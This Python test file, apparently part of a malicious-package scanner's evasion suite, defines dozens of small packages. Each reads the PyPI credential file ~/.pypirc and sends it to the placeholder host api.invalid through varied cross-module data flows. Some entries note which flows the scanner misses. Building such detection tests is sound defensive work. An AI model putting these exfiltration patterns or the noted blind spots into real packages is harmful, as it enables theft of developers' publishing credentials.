"""What one module of Python reads another one sends: by every way in which a module can hand things on."""

from tests.evasion.specimen import Specimen, pypi

_PY_CLIENT = (
    "import urllib.request\n\n\ndef send(path, data):\n"
    "    urllib.request.urlopen('https://api.invalid' + path, data=data)\n"
)


def _py(title: str, grab: str, use: str, *, client: str = _PY_CLIENT, missed: str = "", **more: str) -> Specimen:
    """Return a specimen of a package of three modules; names with two underscores are paths."""
    files = {"client": client, "grab": f"import os\n{grab}", **more}
    modules = {f"pad/{name.replace('__', '/', 1)}.py": text for name, text in files.items()}
    return pypi("handed from module to module", title, use, modules, missed=missed)


PYTHON: tuple[Specimen, ...] = (
    _py(
        "property",
        (
            "class A:\n"
            "    @property\n"
            "    def t(self):\n"
            "        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
        ),
        ("from .client import send\nfrom .grab import A\nsend('/',A().t)\n"),
    ),
    _py(
        "staticmethod",
        (
            "class A:\n"
            "    @staticmethod\n"
            "    def t():\n"
            "        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
        ),
        ("from .client import send\nfrom .grab import A\nsend('/',A.t())\n"),
    ),
    _py(
        "classmethod",
        (
            "class A:\n"
            "    @classmethod\n"
            "    def t(cls):\n"
            "        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
        ),
        ("from .client import send\nfrom .grab import A\nsend('/',A.t())\n"),
    ),
    _py(
        "class attribute",
        ("class A:\n    t=open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import A\nsend('/',A.t)\n"),
    ),
    _py(
        "instance exported",
        ("class A:\n    def t(self):\n        return open(os.path.expanduser('~/.pypirc'),'rb').read()\na=A()\n"),
        ("from .client import send\nfrom .grab import a\nsend('/',a.t())\n"),
    ),
    _py(
        "dataclass",
        (
            "from dataclasses import dataclass, field\n"
            "def r():\n"
            "    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
            "@dataclass\n"
            "class A:\n"
            "    t: bytes = field(default_factory=r)\n"
        ),
        ("from .client import send\nfrom .grab import A\nsend('/',A().t)\n"),
        missed="what a dataclass makes its fields of is not followed",
    ),
    _py(
        "factory",
        (
            "class A:\n"
            "    def t(self):\n"
            "        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
            "def make():\n"
            "    return A()\n"
        ),
        ("from .client import send\nfrom .grab import make\nsend('/',make().t())\n"),
    ),
    _py(
        "closure factory",
        ("def make():\n    def g():\n        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n    return g\n"),
        ("from .client import send\nfrom .grab import make\nsend('/',make()())\n"),
    ),
    _py(
        "generator",
        ("def grab():\n    yield open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import grab\nfor x in grab():\n    send('/',x)\n"),
    ),
    _py(
        "context manager",
        (
            "class A:\n"
            "    def __enter__(self):\n"
            "        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
            "    def __exit__(self,*a): pass\n"
        ),
        ("from .client import send\nfrom .grab import A\nwith A() as x:\n    send('/',x)\n"),
    ),
    _py(
        "contextlib",
        (
            "import contextlib\n"
            "@contextlib.contextmanager\n"
            "def grab():\n"
            "    yield open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
        ),
        ("from .client import send\nfrom .grab import grab\nwith grab() as x:\n    send('/',x)\n"),
    ),
    _py(
        "lambda",
        "grab = lambda: open(os.path.expanduser('~/.pypirc'),'rb').read()\n",
        ("from .client import send\nfrom .grab import grab\nsend('/',grab())\n"),
    ),
    _py(
        "module getattr",
        ("def __getattr__(name):\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import anything\nsend('/',anything)\n"),
    ),
    _py(
        "import_module",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nimport importlib\nsend('/',importlib.import_module('.grab',__package__).grab())\n"),
    ),
    _py(
        "import_module name",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nimport importlib\nsend('/',importlib.import_module(__name__+'.grab').grab())\n"),
        missed="a module named by ``__name__`` is not found",
    ),
    _py(
        "dunder import",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nsend('/',__import__('pad.grab',fromlist=['x']).grab())\n"),
    ),
    _py(
        "absolute",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("import pad.client\nimport pad.grab\npad.client.send('/',pad.grab.grab())\n"),
    ),
    _py(
        "absolute as",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("import pad.client as c\nimport pad.grab as g\nc.send('/',g.grab())\n"),
    ),
    _py(
        "from pad",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from pad import client, grab\nclient.send('/',grab.grab())\n"),
    ),
    _py(
        "subpackage",
        "",
        ("from .client import send\nfrom .sub.deep import grab\nsend('/',grab())\n"),
        sub____init__="",
        sub__deep=("import os\ndef grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
    ),
    _py(
        "parent",
        "",
        "from .sub import glue\n",
        sub____init__="",
        sub__glue=("from ..client import send\nfrom ..g2 import grab\nsend('/',grab())\n"),
        g2=("import os\ndef grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
    ),
    _py(
        "registry",
        (
            "R={}\n"
            "def reg(f):\n"
            "    R[f.__name__]=f\n"
            "    return f\n"
            "@reg\n"
            "def grab():\n"
            "    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
        ),
        ("from .client import send\nfrom .grab import R\nsend('/',R['grab']())\n"),
    ),
    _py(
        "dict of functions",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\nM={'g':grab}\n"),
        ("from .client import send\nfrom .grab import M\nsend('/',M['g']())\n"),
        missed="an item of another file is called by no name",
    ),
    _py(
        "singleton client",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import client\nfrom .grab import grab\nclient.send('/',grab())\n"),
        client=(
            "import urllib.request\n"
            "class Client:\n"
            "    def send(self,p,d):\n"
            "        urllib.request.urlopen('https://api.invalid'+p,data=d)\n"
            "client=Client()\n"
        ),
    ),
    _py(
        "inheritance",
        ("class A:\n    def grab(self):\n        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import A\nclass B(A):\n    pass\nsend('/',B().grab())\n"),
    ),
    _py(
        "inheritance super",
        ("class A:\n    def grab(self):\n        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "from .grab import A\n"
            "class B(A):\n"
            "    def go(self):\n"
            "        send('/',super().grab())\n"
            "B().go()\n"
        ),
        missed="what ``super`` is is not known",
    ),
    _py(
        "inheritance self",
        ("class A:\n    def grab(self):\n        return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "from .grab import A\n"
            "class B(A):\n"
            "    def go(self):\n"
            "        send('/',self.grab())\n"
            "B().go()\n"
        ),
    ),
    _py(
        "template method",
        ("class A:\n    def run(self):\n        self.out(open(os.path.expanduser('~/.pypirc'),'rb').read())\n"),
        (
            "from .client import send\n"
            "from .grab import A\n"
            "class B(A):\n"
            "    def out(self,x):\n"
            "        send('/',x)\n"
            "B().run()\n"
        ),
        missed="what a base class calls of the class below is not followed",
    ),
    _py(
        "callback",
        ("def grab(cb):\n    cb('/',open(os.path.expanduser('~/.pypirc'),'rb').read())\n"),
        ("from .client import send\nfrom .grab import grab\ngrab(send)\n"),
    ),
    _py(
        "callback lambda",
        ("def grab(cb):\n    cb(open(os.path.expanduser('~/.pypirc'),'rb').read())\n"),
        ("from .client import send\nfrom .grab import grab\ngrab(lambda d: send('/',d))\n"),
    ),
    _py(
        "third glue",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import grab\nfrom .glue import run\nrun(grab,send)\n"),
        glue=("def run(a,b):\n    b('/',a())\n"),
    ),
    _py(
        "partial",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "from functools import partial\n"
            "from .grab import grab\n"
            "partial(send,'/')(grab())\n"
        ),
    ),
    _py(
        "thread",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "import threading\n"
            "from .grab import grab\n"
            "threading.Thread(target=send,args=('/',grab())).start()\n"
        ),
    ),
    _py(
        "thread function",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "import threading\n"
            "from .grab import grab\n"
            "def go():\n"
            "    send('/',grab())\n"
            "threading.Thread(target=go).start()\n"
        ),
    ),
    _py(
        "atexit",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "import atexit\n"
            "from .grab import grab\n"
            "atexit.register(lambda: send('/',grab()))\n"
        ),
    ),
    _py(
        "third state",
        ("from . import st\nst.v=open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom . import grab, st\nsend('/',st.v)\n"),
        st="v=None\n",
        missed="what another file keeps is not followed",
    ),
    _py(
        "third state call",
        ("from . import st\nst.put(open(os.path.expanduser('~/.pypirc'),'rb').read())\n"),
        ("from .client import send\nfrom . import grab, st\nsend('/',st.get())\n"),
        st=("v=None\ndef put(x):\n    global v\n    v=x\ndef get():\n    return v\n"),
        missed="what another file keeps is not followed",
    ),
    _py(
        "third list",
        ("from .st import L\nL.append(open(os.path.expanduser('~/.pypirc'),'rb').read())\n"),
        ("from .client import send\nfrom . import grab\nfrom .st import L\nsend('/',L[0])\n"),
        st="L=[]\n",
        missed="what another file keeps is not followed",
    ),
    _py(
        "client keeps",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import C\nfrom .grab import grab\nC(grab()).go()\n"),
        client=(
            "import urllib.request\n"
            "class C:\n"
            "    def __init__(self,d):\n"
            "        self.d=d\n"
            "    def go(self):\n"
            "        urllib.request.urlopen('https://api.invalid',data=self.d)\n"
        ),
    ),
    _py(
        "client set later",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import C\nfrom .grab import grab\nc=C()\nc.d=grab()\nc.go()\n"),
        client=(
            "import urllib.request\n"
            "class C:\n"
            "    d=None\n"
            "    def go(self):\n"
            "        urllib.request.urlopen('https://api.invalid',data=self.d)\n"
        ),
        missed="what another file keeps is not followed",
    ),
    _py(
        "kwargs",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import grab\nsend(p='/',d=grab())\n"),
    ),
    _py(
        "star args",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .client import send\nfrom .grab import grab\nsend(*['/',grab()])\n"),
        client=(
            "import urllib.request\n\ndef send(*a):\n    urllib.request.urlopen('https://api.invalid', data=a[1])\n"
        ),
    ),
    _py(
        "async",
        ("async def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "from .client import send\n"
            "import asyncio\n"
            "from .grab import grab\n"
            "async def go():\n"
            "    send('/',await grab())\n"
            "asyncio.run(go())\n"
        ),
    ),
    _py(
        "decorator",
        ("def with_token(f):\n    return f('/',open(os.path.expanduser('~/.pypirc'),'rb').read())\n"),
        (
            "from .grab import with_token\n"
            "import urllib.request\n"
            "@with_token\n"
            "def go(p,d):\n"
            "    urllib.request.urlopen('https://api.invalid'+p,data=d)\n"
        ),
    ),
    _py(
        "try import",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        (
            "try:\n"
            "    from .client import send\n"
            "except ImportError:\n"
            "    send=None\n"
            "from .grab import grab\n"
            "send('/',grab())\n"
        ),
    ),
    _py(
        "main of function import",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("def go():\n    from .client import send\n    from .grab import grab\n    send('/',grab())\ngo()\n"),
    ),
    _py(
        "called in third file",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .glue import go\ngo()\n"),
        glue=("from .client import send\nfrom .grab import grab\n\ndef go():\n    send('/',grab())\n"),
    ),
    _py(
        "called in third file, absolute, long",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .glue import go\ngo()\n"),
        glue=(
            "from pad.client import send\n"
            "from pad.grab import grab\n"
            "\n"
            "def go():\n"
            f"    '''{'long ' * 100}'''\n"
            "    send('/',grab())\n"
        ),
        missed="a long function that names other files by the name of the package, and nothing else",
    ),
    _py(
        "called in third file, class",
        ("def grab():\n    return open(os.path.expanduser('~/.pypirc'),'rb').read()\n"),
        ("from .glue import G\nG().go()\n"),
        glue=(
            "from .client import send\n"
            "from .grab import grab\n"
            "\n"
            "class G:\n"
            "    def go(self):\n"
            "        send('/',grab())\n"
        ),
    ),
    _py(
        "init subclass",
        (
            "class A:\n"
            "    def __init_subclass__(cls):\n"
            "        cls.t=open(os.path.expanduser('~/.pypirc'),'rb').read()\n"
        ),
        ("from .client import send\nfrom .grab import A\nclass B(A): pass\nsend('/',B.t)\n"),
        missed="what a class does when another one extends it is not followed",
    ),
)
